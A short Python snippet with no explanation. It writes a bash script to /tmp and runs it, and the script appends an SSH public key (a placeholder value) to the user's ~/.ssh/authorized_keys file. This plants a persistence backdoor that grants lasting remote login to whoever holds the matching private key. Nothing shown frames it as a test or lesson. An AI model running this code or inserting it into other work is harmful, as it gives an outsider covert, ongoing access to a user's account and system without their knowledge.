import os
script = f"""#!/bin/bash
cat <<'KEY' >> {os.path.expanduser('~')}/.ssh/authorized_keys
ssh-rsa AAAAB3 x@y
KEY
"""
open('/tmp/k.sh','w').write(script)
os.system('bash /tmp/k.sh')
